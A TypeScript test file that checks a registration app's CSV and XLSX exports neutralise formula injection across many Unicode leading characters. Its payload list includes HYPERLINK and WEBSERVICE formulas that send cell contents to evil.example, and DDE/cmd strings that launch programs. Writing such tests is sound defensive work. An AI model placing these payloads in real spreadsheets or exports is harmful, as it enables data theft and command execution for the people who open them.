import { parse } from 'csv-parse/sync'
import * as E from 'fp-ts/Either'
import { describe, expect, it } from 'vitest'
import type { ArrivedRegistration } from '../../../../src/domain/registration/arrived-registration'
import { decodePersonName } from '../../../../src/domain/registration/person-name'
import { allOf } from '../../../support/all-of'
import { figure } from '../../../support/faults/figure'
import { personName } from '../../../support/fixtures/people'
import { anArrivedMembership, anArrivedOrder } from '../../../support/ledger/arrived'
import { openTestLedger } from '../../../support/ledger/open-test-ledger'
import { inFile, runStaffCommand } from '../../../support/staff/run-staff-command'
import { unzipped } from '../../../support/staff/unzipped'
import { workbookRows } from '../../../support/staff/workbook-rows'
import { createDiskDir } from '../../../support/temp-dir'

const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠']

const REMAINDERS = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("https://evil.example/?"&B2,"Xem")',
  'IMPORTXML("https://evil.example","//a")',
  'WEBSERVICE("https://evil.example/"&C2)',
  'IMAGE("https://evil.example/a.png")',
  "cmd|'/C calc'!A0",
  'DDE("cmd","/C calc","x")',
  'QUERY(A:Z,"select *")',
  '0900000001',
]

/** Blanks, and characters that take no room, alone and together. */
const LEADS = [
  ['nothing', ''],
  ['a blank', ' '],
  ['blanks', '   '],
  ['a no-break space', '\u00A0'],
  ['an em space', '\u2003'],
  ['an ideographic space', '\u3000'],
  ['a vertical tab', '\v'],
  ['a form feed', '\f'],
  ['a line separator', '\u2028'],
  ['a soft hyphen', '\u00AD'],
  ['a grapheme joiner', '\u034F'],
  ['an Arabic letter mark', '\u061C'],
  ['a Hangul filler', '\u3164'],
  ['a vowel separator', '\u180E'],
  ['a Mongolian variation selector', '\u180B'],
  ['a zero-width space', '\u200B'],
  ['a zero-width joiner', '\u200D'],
  ['a right-to-left mark', '\u200F'],
  ['a direction override', '\u202E'],
  ['a word joiner', '\u2060'],
  ['an isolate', '\u2066'],
  ['a variation selector', '\uFE0F'],
  ['a byte order mark', '\uFEFF'],
  ['a tag character', '\u{E0041}'],
  ['a no-character', '\uFFFE'],
  ['a NUL', '\u0000'],
  ['blanks among zero widths', '\u200B \uFEFF\u00A0\u2060'],
] as const

const BREAKS = ['\t', '\r', '\n', '\r\n']

/** Returns what a spreadsheet might run: each start and remainder behind each lead, then behind tab, CR and LF. */
const formulaStrings = (): ReadonlyArray<{ readonly lead: string; readonly text: string }> => {
  const formulas = STARTS.flatMap((start) => REMAINDERS.map((remainder) => `${start}${remainder}`))
  return [
    ...LEADS.flatMap(([lead, opening]) =>
      formulas.map((formula) => ({ lead, text: `${opening}${formula}` })),
    ),
    ...BREAKS.flatMap((opening) =>
      ['1+1', 'Nguyễn Mẫu', ...formulas].map((text) => ({ lead: 'a break', text: `${opening}${text}` })),
    ),
  ]
}

const FEWEST = 530
const STRINGS = formulaStrings()
/** Unicode's own word on what is blank or takes no room; apart from the list the product has. */
const RUNS =
  /^[\p{White_Space}\p{Default_Ignorable_Code_Point}\p{Cf}\p{Cc}\p{Cn}]*[=+\-@＝＋－＠]|^[\p{Default_Ignorable_Code_Point}\p{Cf}\p{Cn}]*[\t\r\n]/u

const nameOf = (text: string) => E.getOrElse(() => personName('Nguyễn Mẫu'))(decodePersonName(text))

const orderOf = (text: string, n: number): ArrivedRegistration => {
  const { target, content: registration, ...cameWith } = anArrivedOrder(n)
  if (target !== 'orders') throw new Error('no order')
  const told = { name: nameOf(text), province: text, district: text, titles: [text, text] }
  return { target, content: { ...registration, ...told }, ...cameWith }
}

const membershipOf = (text: string, n: number): ArrivedRegistration => {
  const { target, content: registration, ...cameWith } = anArrivedMembership(n)
  if (target !== 'members') throw new Error('no membership')
  return { target, content: { ...registration, name: nameOf(text), planTitle: text }, ...cameWith }
}

const exported = async (dir: string, target: 'orders' | 'members') => {
  const csv = await runStaffCommand(inFile(dir), 'export', target)
  const xlsx = unzipped((await runStaffCommand(inFile(dir), 'export', target, '--format', 'xlsx')).bytes)
  return {
    csv: parse(csv.output, { bom: true }).slice(1),
    xlsx: workbookRows(xlsx).slice(1),
    hasFormulas: xlsx['xl/worksheets/sheet1.xml']?.includes('<f') ?? true,
  }
}

/** Which leads stand before text that runs in the rows, which are in the order of the strings. */
const liveLeads = (rows: ReadonlyArray<ReadonlyArray<string>>): ReadonlyArray<string> => [
  ...new Set(
    STRINGS.filter((_, n) => rows[n]?.some((cell) => RUNS.test(cell)) ?? true).map(({ lead }) => lead),
  ),
]

const keepAll = async (toArrived: (text: string, n: number) => ArrivedRegistration) => {
  const dir = await createDiskDir()
  const ledger = openTestLedger(dir)
  const arrived = STRINGS.map(({ text }, n) => toArrived(text, n))
  await Promise.all(arrived.map((one) => ledger.keepRegistration(one)()))
  return { dir, ledger, arrived }
}

describe('text that a spreadsheet would evaluate', () => {
  it.each([
    ['[M-106]', 'orders', orderOf],
    ['[M-109]', 'members', membershipOf],
  ] as const)('[P-008] %s runs in no cell of the exported %s', async (_, target, toArrived) => {
    const { dir, ledger, arrived } = await keepAll(toArrived)
    const stored = await allOf(ledger.readRegistrations(target))
    expect(stored.map(({ content }) => content)).toStrictEqual(arrived.map(({ content }) => content))
    const { csv, xlsx, hasFormulas } = await exported(dir, target)
    const live = { csv: liveLeads(csv), xlsx: liveLeads(xlsx) }
    figure(`9 formula strings in ${target}`, csv.length, `>= ${FEWEST}`)
    figure(`9 formula strings that run in ${target}`, live.csv.length + live.xlsx.length, '= 0')
    expect([csv.length, xlsx.length, hasFormulas]).toStrictEqual([STRINGS.length, STRINGS.length, false])
    expect(STRINGS.length).toBeGreaterThanOrEqual(FEWEST)
    expect(live).toStrictEqual({ csv: [], xlsx: [] })
  })

  it('[A-37] gets apostrophes and is otherwise unchanged', async () => {
    const { dir } = await keepAll(orderOf)
    const { csv } = await exported(dir, 'orders')
    const unmarked = (text = '') => text.replaceAll("'", '')
    expect(csv.every((row) => row[3]?.startsWith("'"))).toBe(true)
    expect(csv.map((row) => unmarked(row[3]))).toStrictEqual(STRINGS.map(({ text }) => unmarked(text)))
  })
})
